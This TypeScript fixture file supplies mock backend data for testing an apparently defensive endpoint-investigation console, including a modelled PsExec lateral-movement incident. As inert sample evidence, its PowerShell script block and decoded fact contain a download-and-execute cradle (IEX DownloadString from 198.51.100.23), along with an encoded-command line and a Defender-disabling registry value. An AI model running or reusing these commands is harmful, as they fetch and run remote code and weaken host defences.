// Fixtures for component tests and the preview: an engine's answers as plain data, with no
// Tauri and no test runner (fakeBackend.ts wraps them in mocks for vitest).
import type { ActionView, AlertView, Backend, EntityView, GraphNode, InvestigationDetails, InvestigationSummary, MachineView } from "../backend";

export const machine = (over: Partial<MachineView> = {}): MachineView => ({
  id: 1,
  name: "client4",
  domain: "northwind",
  os: "Windows 11",
  role: "workstation",
  tags: [],
  ip: "10.0.0.14",
  group: "Workstations",
  automation_level: "semi_any",
  risk: "high",
  active_alerts: 2,
  connector: "lab",
  last_seen: "2026-11-27T22:00:00Z",
  agent: null,
  ...over,
});

export const alertView = (over: Partial<AlertView> = {}): AlertView => ({
  id: 3,
  title: "Office application started script host",
  description: "winword.exe started wscript.exe",
  severity: "high",
  category: "Execution",
  technique: "T1059",
  detection_source: "sigma",
  rule_id: "r1",
  machine: "client4",
  user: "northwind\\alice",
  status: "new",
  investigation_id: null,
  first_seen: "2026-11-27T21:00:00Z",
  last_seen: "2026-11-27T21:05:00Z",
  ...over,
});

export const summary = (over: Partial<InvestigationSummary> = {}): InvestigationSummary => ({
  id: 1,
  title: "Investigation of client4",
  status: "pending_action",
  status_detail: "",
  trigger: "Office application started script host",
  trigger_alert_id: 3,
  trigger_alert_title: "Office application started script host",
  playbook: "auto",
  detection_source: "sigma",
  threat_types: ["Execution"],
  tags: [],
  machine_names: ["client4"],
  user_names: ["northwind\\alice"],
  started_by: "tester",
  created_at: "2026-11-27T21:06:00Z",
  started_at: "2026-11-27T21:06:00Z",
  ended_at: null,
  duration_s: 120,
  pending_s: 60,
  ...over,
});

export const entity = (over: Partial<EntityView> = {}): EntityView => ({
  id: 17,
  kind: "file",
  kind_label: "File",
  name: "updater.exe",
  machine: "client4",
  path: "C:\\Users\\alice\\Downloads\\updater.exe",
  sha256: null,
  pid: null,
  command_line: null,
  value: null,
  verdict: "malicious",
  reasons: [{ analyzer: "threat_intel", verdict: "malicious", text: "Its hash is on the known-bad list" }],
  remediation_status: "pending_approval",
  facts: [],
  group: null,
  protected: null,
  ...over,
});

export const action = (over: Partial<ActionView> = {}): ActionView => ({
  id: 5,
  investigation_id: 1,
  kind: "quarantine_file",
  label: "Quarantine file",
  entity_id: 17,
  entity: "updater.exe",
  entity_kind: "file",
  verdict: "malicious",
  machine: "client4",
  machine_connector: "lab",
  source: "automated",
  state: "pending",
  reason: "Its hash is on the known-bad list",
  decided_by: null,
  decided_at: null,
  decision_note: null,
  proposed_at: "2026-11-27T21:07:00Z",
  expires_at: "2026-12-04T21:07:00Z",
  started_at: null,
  finished_at: null,
  result: "",
  reversible: true,
  group: null,
  group_label: null,
  ...over,
});

export const details = (over: Partial<InvestigationDetails> = {}): InvestigationDetails => ({
  ...summary(),
  alerts: [alertView({ investigation_id: 1 })],
  machines: [{ name: "client4", group: "Workstations", automation_level: "semi_any", reason: "alert", joined_at: "2026-11-27T21:06:00Z" }],
  users: [{ name: "northwind\\alice", reason: "logged on" }],
  key_findings: [entity()],
  finding_groups: [],
  entities: [entity()],
  log: [{ id: 1, step: "Start", machine: "client4", status: "running", started_at: "2026-11-27T21:06:00Z", duration_ms: 12, detail: "started" }],
  actions: [action()],
  pending_actions: [action()],
  graph: {
    nodes: [
      { id: "alert:3", group: "alert", kind: "high", label: "Office application started script host", verdict: null, remediation_status: null, cluster: null, size: 1 },
      { id: "entity:17", group: "finding", kind: "file", label: "updater.exe", verdict: "malicious", remediation_status: "pending_approval", cluster: null, size: 1 },
    ],
    edges: [{ source: "alert:3", target: "entity:17", label: "evidence" }],
  },
  ...over,
});

/** A backend where every method resolves to a sensible fixture; override what a test needs. */
export function fixtureBackend(over: Partial<Backend> = {}): Backend {
  const base: Backend = {
    // The dashboard as the engine builds it, from this backend's other answers.
    dashboard: () => dashboardOf(merged),
    overview: async () => ({ machines: 1, alerts: 1, active_alerts: 1, investigations: 1, events: 10, pending_actions: 1 }),
    dataLocation: async () => "/tmp/vigil.sqlite3",
    loadDemo: async () => ({ machines: 8, users: 5, events: 100, indicators: 4, alerts: 3, investigations: 1 }),
    machines: async () => [machine(), machine({ id: 2, name: "server1", risk: "none", active_alerts: 0 })],
    alerts: async () => [alertView()],
    alert: async () => alertView(),
    investigations: async () => [summary()],
    investigation: async () => details(),
    investigateMachine: async () => 1,
    investigateAlert: async () => 1,
    cancelInvestigation: async () => details({ status: "terminated_by_user" }),
    actions: async (filter) => (filter === "pending" ? [action()] : [action({ id: 9, state: "succeeded", decided_by: "tester" })]),
    approve: async (ids: number[]) => ids.map((id) => action({ id, state: "succeeded" })),
    reject: async (ids: number[]) => ids.map((id) => action({ id, state: "rejected" })),
    remediate: async (_investigation, entities) =>
      entities.map((id, i) => action({ id: 900 + i, entity_id: id, source: "manual", state: "succeeded", decided_by: "admin", result: "done" })),
    undo: async (ids: number[]) => ids.map((id) => action({ id, state: "undone" })),
    markDone: async (ids: number[], note: string) => ids.map((id) => action({ id, state: "succeeded", result: `Done by hand by tester: ${note}` })),
    neverActOn: async () => ({ hosts: [], ips: [], domains: [], paths: [], hashes: [] }),
    saveNeverActOn: async (list) => list,
    investigationSettings: async () => ({ window_minutes: 60 }),
    saveInvestigationSettings: async (settings) => settings,
    groups: async () => [
      {
        id: 1,
        name: "Workstations",
        description: "Laptops and desktops",
        rank: 1,
        automation_level: "semi_any" as const,
        automation_label: "Semi – require approval for any remediation",
        is_default: false,
        rules: [{ field: "name", pattern: "client*" }],
        machines: ["client4"],
      },
      {
        id: 2,
        name: "Ungrouped machines",
        description: "Machines that match no other group",
        rank: 1000000,
        automation_level: "semi_any" as const,
        automation_label: "Semi – require approval for any remediation",
        is_default: true,
        rules: [],
        machines: ["server1"],
      },
    ],
    setGroupLevel: async (name, level) => ({
      id: 1,
      name,
      description: "",
      rank: 1,
      automation_level: level,
      automation_label: "Full – remediate threats automatically",
      is_default: false,
      rules: [],
      machines: [],
    }),
    automationLevels: async () => [
      { level: "not_protected" as const, label: "Not protected", explanation: "No automated investigation runs on these machines." },
      { level: "semi_any" as const, label: "Semi – require approval for any remediation", explanation: "Every remediation waits for your approval." },
      { level: "full" as const, label: "Full – remediate threats automatically", explanation: "Malicious threats are remediated at once." },
    ],
    alertPolicies: async () => [
      { id: 1, name: "Investigate high-severity alerts", rank: 1, enabled: true, min_severity: "high" as const, detection_source: null, category: null, playbook: "auto", start: true, why: "Rules rate an alert high or critical when it seldom fires on ordinary work." },
    ],
    policyChoices: async () => ({
      detection_sources: ["sigma", "ioc", "yara", "heuristic", "imported", "manual"],
      playbooks: [{ id: "malware_on_machine", title: "Malware on a machine" }],
    }),
    saveAlertPolicy: async (p) => ({ ...p, detection_source: p.detection_source ?? null, category: p.category ?? null, id: p.id ?? 2, rank: p.id ?? 2, why: "" }),
    deleteAlertPolicy: async () => null,
    moveAlertPolicy: async () => [],
    previewGroup: async () => ({ machines: ["client4"], kept_by_higher: [] }),
    saveGroup: async (g) => ({
      ...g,
      id: g.id ?? 3,
      rank: 2,
      automation_label: "Full – remediate threats automatically",
      is_default: false,
      machines: ["client4"],
    }),
    deleteGroup: async () => null,
    moveGroup: async () => [],
    saveExport: async (name) => `/tmp/exports/${name}`,
    importTelemetry: async () => ({
      files: 1,
      records: 6,
      events_added: 6,
      duplicates: 0,
      skipped: 0,
      skip_reasons: [],
      machines_added: 2,
      alerts: 1,
      investigations_started: 1,
      rules: 21,
      rules_seconds: 0.01,
      stored_seconds: 0.05,
      stored_cpu_seconds: 0.07,
      ingest_seconds: 0.1,
      seconds: 0.2,
    }),
    ruleSets: async () => ({
      vigil_rules: 21,
      sigmahq: { rules: 2514, source: "embedded" as const, commit: "8eaafff", file: null, updated_at: null, replaced_by_user: 0 },
      user_dirs: [],
      attribution: "Detection rules by the SigmaHQ project and its contributors, under the Detection Rule License 1.1",
    }),
    updateSigmahq: async (path: string) => ({
      source: path,
      updated_at: "2026-12-01T10:00:00.000Z",
      rules: 2600,
      skipped: 400,
      skipped_by_reason: [{ reason: "status experimental", count: 300 }],
    }),
    sigmaRule: async (ruleId: string) => ({
      rule_id: ruleId,
      title: "Office application started script host",
      level: "high",
      status: "test",
      author: "Florian Roth (Nextron Systems)",
      hunting: false,
      origin: "sigmahq" as const,
      file: "sigmahq:rules/windows/process_creation/x.yml",
      attribution: "Detection rules by the SigmaHQ project and its contributors, under the Detection Rule License 1.1",
    }),
    ruleDirs: async () => [],
    addRuleDir: async () => 2842,
    importIntel: async () => ({ indicators: 4, added: 4, skipped: 0, skip_reasons: [], seen_on: [], alerts: 0, investigations_started: 0 }),
    intelLists: async () => [],
    removeIntelList: async () => 4,
    agents: async () => [],
    addMachine: async (addresses) => ({
      token: `vigil-enrol-1.0123456789abcdef.${"ab".repeat(32)}.${"cd".repeat(32)}.${addresses.join(",")}`,
      listening_on: "0.0.0.0:7420",
    }),
    consoleAddresses: async () => ["192.168.1.10:7420", "office-laptop:7420"],
    revokeAgent: async () => [],
    pick: async () => null,
    onImportProgress: async () => () => undefined,
    onFilesDropped: async () => () => undefined,
    onStoreChanged: async () => () => undefined,
    onInvestigationUpdated: async () => () => undefined,
  };
  const merged: Backend = { ...base, ...over };
  return merged;
}

/** The dashboard as the engine builds it, from a backend's other answers. */
export async function dashboardOf(backend: Backend) {
  const overview = await backend.overview();
  const [machines, alerts, investigations, pending, history] = await Promise.all([
    backend.machines(),
    backend.alerts(null),
    backend.investigations(null, null),
    backend.actions("pending"),
    backend.actions("history"),
  ]);
  const statuses = [...new Set(investigations.map((i) => i.status))];
  return {
    overview,
    at_risk: machines.filter((m) => m.risk !== "none").slice(0, 8),
    active_alerts: alerts.filter((a) => a.status !== "resolved").slice(0, 8),
    investigations_by_status: statuses.map((status) => ({ status, count: investigations.filter((i) => i.status === status).length })),
    pending: pending.slice(0, 8),
    oldest_pending: pending.map((a) => a.proposed_at).sort()[0] ?? null,
    recent_remediations: history.slice(0, 8),
  };
}

// ---- A realistic investigation: PsExec used to install a service on ws01 ----------------

/** The 64 KiB PowerShell script block the attack ran (text only: never executed, never parsed as HTML). */
export const LONG_SCRIPT = (() => {
  const line = "$wc = New-Object Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0'); IEX $wc.DownloadString('http://198.51.100.23/a.ps1') <b>#</b>\n";
  let text = "";
  while (text.length < 65_536) text += line;
  return text.slice(0, 65_536);
})();

const WS01 = "ws01";
/** The entity ids of the 37 files PSEXESVC.exe wrote. */
export const WRITTEN_FILES = Array.from({ length: 37 }, (_, i) => 110 + i);
const FILE_GROUP = "group:file:wrote:102";

/** The PsExec investigation's findings, ranked as the engine ranks them: the culprit first. */
export function psexecFindings(): EntityView[] {
  const on = { machine: WS01, path: null, sha256: null, pid: null, command_line: null, value: null, group: null, protected: null, facts: [] };
  return [
    entity({
      ...on,
      id: 101,
      kind: "persistence",
      kind_label: "Service",
      name: "PSEXESVC",
      value: "%SystemRoot%\\PSEXESVC.exe",
      verdict: "malicious",
      remediation_status: "pending_approval",
      reasons: [
        { analyzer: "alert", verdict: "malicious", text: "A service was installed from a remote admin session (PsExec) — Sigma rule “PsExec Service Installation”, event 7045" },
        { analyzer: "heuristic", verdict: "malicious", text: "Its binary lives in the Windows folder but is not signed by Microsoft" },
        { analyzer: "propagation", verdict: "suspicious", text: "It started PSEXESVC.exe (4120), judged malicious" },
      ],
      facts: [
        { label: "binary", value: "%SystemRoot%\\PSEXESVC.exe" },
        { label: "start type", value: "demand start" },
        { label: "account", value: "LocalSystem" },
        { label: "installed by", value: "CONTOSO\\jdoe" },
      ],
    }),
    entity({
      ...on,
      id: 102,
      kind: "process",
      kind_label: "Process",
      name: "PSEXESVC.exe (4120)",
      pid: 4120,
      path: "C:\\Windows\\PSEXESVC.exe",
      command_line: "C:\\Windows\\PSEXESVC.exe",
      verdict: "malicious",
      remediation_status: "pending_approval",
      reasons: [{ analyzer: "propagation", verdict: "malicious", text: "Run by the malicious service PSEXESVC" }],
      facts: [{ label: "parent", value: "services.exe (640)" }],
    }),
    entity({
      ...on,
      id: 103,
      kind: "script",
      kind_label: "PowerShell script",
      name: "Script block 3f1a…c2 (4312)",
      value: LONG_SCRIPT,
      verdict: "malicious",
      remediation_status: "none",
      reasons: [{ analyzer: "heuristic", verdict: "malicious", text: "Downloads and runs code from the internet (IEX DownloadString)" }],
      facts: [
        { label: "decoded", value: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')" },
        { label: "names", value: "198.51.100.23" },
      ],
    }),
    entity({
      ...on,
      id: 104,
      kind: "registry_value",
      kind_label: "Registry value",
      name: "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
      value: "1",
      verdict: "suspicious",
      remediation_status: "none",
      reasons: [{ analyzer: "heuristic", verdict: "suspicious", text: "Turns Microsoft Defender off" }],
      facts: [
        { label: "data", value: "1 (DWORD)" },
        { label: "by", value: "powershell.exe (4312)" },
      ],
    }),
    ...WRITTEN_FILES.map((id, i) =>
      entity({
        ...on,
        id,
        kind: "file",
        kind_label: "File",
        name: `payload-${i + 1}.dll`,
        path: `C:\\Windows\\Temp\\psx\\payload-${i + 1}.dll`,
        verdict: "malicious",
        remediation_status: "pending_approval",
        group: FILE_GROUP,
        reasons: [{ analyzer: "propagation", verdict: "malicious", text: "Written by PSEXESVC.exe (4120), judged malicious" }],
        facts: [{ label: "written by", value: "PSEXESVC.exe (4120)" }],
      }),
    ),
    entity({
      ...on,
      id: 105,
      kind: "process",
      kind_label: "Process",
      name: "powershell.exe",
      pid: 4312,
      command_line: "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
      verdict: "suspicious",
      remediation_status: "none",
      reasons: [
        { analyzer: "heuristic", verdict: "suspicious", text: "Ran an encoded command" },
        { analyzer: "propagation", verdict: "suspicious", text: "Started by PSEXESVC.exe (4120)" },
      ],
      facts: [{ label: "user", value: "NT AUTHORITY\\SYSTEM" }],
    }),
    entity({
      ...on,
      id: 106,
      kind: "process",
      kind_label: "Process",
      name: "lsass.exe",
      pid: 672,
      path: "C:\\Windows\\System32\\lsass.exe",
      verdict: "suspicious",
      remediation_status: "none",
      protected: "lsass.exe is a process the OS cannot run without",
      reasons: [{ analyzer: "heuristic", verdict: "suspicious", text: "Its memory was read by powershell.exe (4312)" }],
    }),
    entity({
      ...on,
      id: 107,
      kind: "ip",
      kind_label: "IP address",
      name: "198.51.100.23",
      machine: null,
      verdict: "malicious",
      remediation_status: "pending_approval",
      reasons: [{ analyzer: "threat_intel", verdict: "malicious", text: "On the IOC list “report.csv”" }],
    }),
  ];
}

/** The PsExec investigation's pending actions: one per culprit, one group for the 37 files. */
export function psexecActions(): ActionView[] {
  const base = { investigation_id: 7, machine: WS01, verdict: "malicious" as const, proposed_at: "2026-11-30T22:41:00Z", expires_at: "2026-12-07T22:41:00Z" };
  return [
    action({ ...base, id: 201, kind: "remove_persistence", label: "Remove service", entity_id: 101, entity: "PSEXESVC", entity_kind: "persistence", reason: "A service was installed from a remote admin session (PsExec)", reversible: true }),
    action({ ...base, id: 202, kind: "kill_process", label: "Stop process", entity_id: 102, entity: "PSEXESVC.exe (4120)", entity_kind: "process", reason: "Run by the malicious service PSEXESVC", reversible: false }),
    action({ ...base, id: 203, kind: "block_ip", label: "Block IP address", entity_id: 107, entity: "198.51.100.23", entity_kind: "ip", machine: null, reason: "On the IOC list “report.csv”" }),
    ...WRITTEN_FILES.map((entity_id, i) =>
      action({
        ...base,
        id: 210 + i,
        kind: "quarantine_file",
        label: "Quarantine file",
        entity_id,
        entity: `C:\\Windows\\Temp\\psx\\payload-${i + 1}.dll`,
        entity_kind: "file",
        reason: "Written by PSEXESVC.exe (4120), judged malicious",
        group: FILE_GROUP,
        group_label: "Quarantine 37 files written by PSEXESVC.exe (4120)",
      }),
    ),
  ];
}

/** The PsExec investigation on ws01, as the engine would give it. */
export function psexecInvestigation(over: Partial<InvestigationDetails> = {}): InvestigationDetails {
  const findings = psexecFindings();
  const actions = psexecActions();
  const critical = alertView({
    id: 41,
    title: "PsExec service installed on ws01",
    description: "Service PSEXESVC installed by CONTOSO\\jdoe from 10.0.0.23",
    severity: "critical",
    category: "Lateral movement",
    technique: "T1569.002",
    machine: WS01,
    user: "CONTOSO\\jdoe",
    investigation_id: 7,
  });
  const encoded = alertView({ id: 42, title: "Encoded PowerShell run by a service", severity: "high", category: "Execution", technique: "T1059.001", machine: WS01, user: null, investigation_id: 7 });
  const node = (n: Partial<GraphNode> & { id: string; group: string; label: string }): GraphNode => ({
    kind: n.group,
    verdict: null,
    remediation_status: null,
    cluster: null,
    size: 1,
    ...n,
  });
  const files = findings.filter((e) => e.group === FILE_GROUP);
  const others = findings.filter((e) => e.group !== FILE_GROUP);
  const clean = [
    entity({ id: 150, kind: "process", kind_label: "Process", name: "services.exe (640)", machine: WS01, path: "C:\\Windows\\System32\\services.exe", verdict: "no_threats_found", remediation_status: "none", reasons: [], protected: "services.exe is a process the OS cannot run without" }),
    entity({ id: 151, kind: "user", kind_label: "Account", name: "CONTOSO\\jdoe", machine: WS01, path: null, value: "contoso\\jdoe", verdict: "suspicious", remediation_status: "none", reasons: [{ analyzer: "heuristic", verdict: "suspicious", text: "Installed a service from a remote session" }], facts: [{ label: "logon", value: "network (type 3) from 10.0.0.23" }] }),
    entity({ id: 152, kind: "ip", kind_label: "IP address", name: "127.0.0.1", machine: WS01, path: null, verdict: "no_threats_found", remediation_status: "none", reasons: [], protected: "127.0.0.1 is a loopback address: the machine itself" }),
  ];
  const graph = {
    nodes: [
      node({ id: "alert:41", group: "alert", kind: "critical", label: critical.title }),
      node({ id: "alert:42", group: "alert", kind: "high", label: encoded.title }),
      node({ id: "machine:ws01", group: "machine", label: WS01 }),
      node({ id: "user:contoso\\jdoe", group: "user", label: "CONTOSO\\jdoe", verdict: "suspicious" }),
      ...others.map((e) => node({ id: `entity:${e.id}`, group: "finding", kind: e.kind, label: e.name, verdict: e.verdict, remediation_status: e.remediation_status })),
      node({ id: "cluster:files", group: "cluster", kind: "file", label: "37 files written by PSEXESVC.exe (4120)", verdict: "malicious", remediation_status: "pending_approval", size: 37 }),
      ...files.map((e) => node({ id: `entity:${e.id}`, group: "finding", kind: "file", label: e.name, verdict: e.verdict, remediation_status: e.remediation_status, cluster: "cluster:files" })),
      node({ id: "entity:150", group: "entity", kind: "process", label: "services.exe (640)", verdict: "no_threats_found" }),
      node({ id: "cluster:quarantines", group: "cluster", kind: "action", label: "Quarantine 37 files", remediation_status: "pending_approval", size: 37 }),
      ...actions.map((a) => node({ id: `action:${a.id}`, group: "action", kind: a.kind, label: `${a.label} (pending)`, remediation_status: "pending_approval", cluster: a.group ? "cluster:quarantines" : null })),
    ],
    edges: [
      { source: "alert:41", target: "machine:ws01", label: "on" },
      { source: "alert:42", target: "machine:ws01", label: "on" },
      { source: "alert:41", target: "entity:101", label: "evidence" },
      { source: "alert:42", target: "entity:105", label: "evidence" },
      { source: "user:contoso\\jdoe", target: "entity:101", label: "installed" },
      { source: "entity:150", target: "entity:102", label: "started" },
      { source: "entity:101", target: "entity:102", label: "runs" },
      { source: "entity:102", target: "entity:105", label: "started" },
      { source: "entity:105", target: "entity:103", label: "ran" },
      { source: "entity:105", target: "entity:104", label: "set" },
      { source: "entity:105", target: "entity:106", label: "read memory of" },
      { source: "entity:103", target: "entity:107", label: "connects to" },
      ...files.map((e) => ({ source: "entity:102", target: `entity:${e.id}`, label: "wrote" })),
      ...actions.map((a) => ({ source: `entity:${a.entity_id}`, target: `action:${a.id}`, label: "remediate" })),
    ],
  };
  return {
    ...summary({
      id: 7,
      title: "PsExec service installed on ws01",
      trigger: "alert_policy",
      trigger_alert_id: 41,
      trigger_alert_title: critical.title,
      detection_source: "sigma",
      threat_types: ["Lateral movement", "Execution"],
      machine_names: [WS01],
      user_names: ["CONTOSO\\jdoe"],
      started_by: "alert policy",
      created_at: "2026-11-30T22:40:00Z",
      started_at: "2026-11-30T22:40:00Z",
      duration_s: 5400,
      pending_s: 5300,
    }),
    alerts: [critical, encoded],
    machines: [{ name: WS01, group: "Workstations", automation_level: "semi_any", reason: "alert", joined_at: "2026-11-30T22:40:00Z" }],
    users: [{ name: "CONTOSO\\jdoe", reason: "installed the service PSEXESVC" }],
    key_findings: findings,
    finding_groups: [
      {
        id: FILE_GROUP,
        label: "37 files written by PSEXESVC.exe (4120)",
        kind: "file",
        kind_label: "File",
        verdict: "malicious",
        entity_ids: WRITTEN_FILES,
        action_ids: actions.filter((a) => a.group === FILE_GROUP).map((a) => a.id),
      },
    ],
    entities: [...findings, ...clean],
    log: [
      { id: 1, step: "Collect", machine: WS01, status: "done", started_at: "2026-11-30T22:40:00Z", duration_ms: 1200, detail: "Read 4,212 events from 21:40 to 23:40" },
      { id: 2, step: "Analyse", machine: WS01, status: "done", started_at: "2026-11-30T22:40:02Z", duration_ms: 300, detail: "49 entities: 42 malicious, 4 suspicious" },
      { id: 3, step: "Propose actions", machine: WS01, status: "done", started_at: "2026-11-30T22:40:03Z", duration_ms: 20, detail: "40 actions; not acting on lsass.exe: a process the OS cannot run without" },
    ],
    actions,
    pending_actions: actions,
    graph,
    ...over,
  };
}
